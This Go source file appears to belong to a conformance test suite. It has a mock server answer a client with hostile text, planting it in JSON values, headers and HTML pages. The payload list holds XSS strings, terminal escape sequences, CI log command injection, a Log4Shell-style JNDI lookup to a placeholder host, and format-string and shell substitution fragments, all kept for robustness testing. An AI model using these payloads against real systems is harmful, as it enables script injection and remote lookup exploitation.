package hostile

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"

	"github.com/adconform/adconform/suites/report"
)

// mark stands in every hostile text, so that it is found wherever it ends up.
const mark = "hostile7mark"

// payloads are texts that must stay texts, whatever shows them.
var payloads = []string{
	"\x1b[2J\x1b[31m" + mark + "\x1b]0;" + mark + "\x07\x1b]8;;http://evil.invalid\x07",
	"\u009b31m" + mark + "\u0085\u202e" + mark + "\u2028\u200b\ufeff",
	"<script>alert('" + mark + "')</script><svg onload=alert('" + mark + "')>",
	"\"'><img src=x onerror=\"alert('" + mark + "')\"><iframe src=javascript:alert('" + mark + "')>",
	"</textarea></title></style></script></details></pre><x-" + mark + " on" + mark + "=1>",
	"]]>" + mark + "]]><!-- -->&lt;&#27;<![CDATA[" + mark,
	"\x00\x01\x08" + mark + "\x7f\ufffe\uffff",
	"\r\n\r\n::error file=" + mark + "::" + mark + "\r\n##vso[task.setvariable variable=" + mark + "]1",
	"| " + mark + " |\n|---|\n```\n# " + mark + "\n```\n[" + mark + "](javascript:alert(1)) ![" + mark + "](http://evil.invalid/a.png)",
	"`" + mark + "` ``<img src=http://evil.invalid/" + mark + ">`` \\`<b>" + mark + "</b>",
	"{{.}}${jndi:ldap://evil.invalid/" + mark + "}%s%n$(" + mark + ");'" + mark + "`" + mark + "`",
	strings.Repeat("\x1b["+mark, 5000),
}

// spoiled answers what the reference answers, with its JSON changed.
func spoiled(text func(r *http.Request) string, spoil func(v any, text string) any) behaviour {
	return func(w http.ResponseWriter, r *http.Request, next http.Handler) {
		a := record(r, next)
		body := a.Body.Bytes()
		var v any
		if json.Unmarshal(body, &v) == nil {
			body = marshal(spoil(v, text(r)))
		}
		send(w, a, body)
	}
}

// turns gives one payload after the other.
func turns() func(*http.Request) string {
	var n atomic.Int64
	return func(*http.Request) string { return payloads[int(n.Add(1))%len(payloads)] }
}

// textModes put hostile texts wherever a server can put a text.
func textModes() []mode {
	var all []mode
	for place, spoil := range map[string]func(v any, text string) any{
		"string-values": func(v any, text string) any {
			return eachString(v, func(_, s string) string { return text + s })
		},
		"names-and-messages": func(v any, text string) any {
			return eachString(v, func(name, s string) string {
				if slices.Contains([]string{"name", "hostname", "regularExpression", "message", "relatedField", "type"}, name) {
					return text
				}
				return s
			})
		},
		"member-names": eachMember,
		"related-fields": func(v any, text string) any {
			return eachString(v, func(name, s string) string {
				if name == "relatedField" {
					return text + "." + s // a form that is open
				}
				return s
			})
		},
	} {
		all = append(all, mode{
			id: "text/" + place, does: "answers with escape sequences, HTML, XML and Markdown in " + strings.ReplaceAll(place, "-", " "),
			says: words(`\w+-\d+: `), exits: []int{report.ExitConforming, report.ExitNonconforming}, short: place == "string-values",
			at:     withShort(byNetHTTP),
			answer: func(*site) behaviour { return spoiled(turns(), spoil) },
		})
	}
	page := func(*site) behaviour {
		return func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
			io.Copy(io.Discard, r.Body) //nolint:errcheck // a request that is cut off is answered all the same
			w.Header().Set("Content-Type", "text/html; charset="+mark)
			w.WriteHeader(http.StatusForbidden)
			io.WriteString(w, "<!doctype html><title>"+mark+"</title>"+strings.Join(payloads, "\n"))
		}
	}
	return append(
		all,
		mode{
			id: "text/headers", does: "answers with escape sequences and HTML in headers and the reason phrase",
			says: words(`HTTP-|JSON-|malformed`), answer: oddHeaders,
		},
		mode{
			id: "text/html-pages/everywhere", does: "answers all with a page that holds scripts",
			says: words(`baseURL: every path beneath it is answered 403`), exits: mistaken, answer: page,
		},
		mode{
			id: "text/html-pages/" + byNetHTTP, does: "answers " + byNetHTTP + " with a page that holds scripts",
			says: words(`HTTP-3: .*text/html`), exits: found, at: byNetHTTP, answer: page,
		},
	)
}

func oddHeaders(s *site) behaviour {
	next := turns()
	return s.raw(func(c net.Conn) {
		text := strings.NewReplacer("\r", "", "\n", "").Replace(next(nil))
		text = text[:min(len(text), 1000)]
		fmt.Fprintf(c, "HTTP/1.1 200 %[1]s\r\nContent-Type: %[1]s\r\nContent-Encoding: %[1]s\r\nX-More: %[1]s\r\n"+
			"Location: %[1]s\r\nContent-Length: 11\r\n\r\n{\"data\":{}}", text)
	})
}

func marshal(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // it was decoded from JSON
	}
	return b
}

// eachString replaces every string of a value; change is given the name of the
// member that holds it.
func eachString(v any, change func(name, s string) string) any {
	var walk func(name string, v any) any
	walk = func(name string, v any) any {
		switch v := v.(type) {
		case string:
			return change(name, v)
		case []any:
			for i := range v {
				v[i] = walk(name, v[i])
			}
		case map[string]any:
			for n := range v {
				v[n] = walk(n, v[n])
			}
		}
		return v
	}
	return walk("", v)
}

// eachMember gives every object a member of this name, and takes its last one.
func eachMember(v any, name string) any {
	switch v := v.(type) {
	case []any:
		for i := range v {
			v[i] = eachMember(v[i], name)
		}
	case map[string]any:
		for n := range v {
			v[n] = eachMember(v[n], name)
		}
		v[name] = 1
		v["name"] = map[string]any{name: []any{name}}
	}
	return v
}
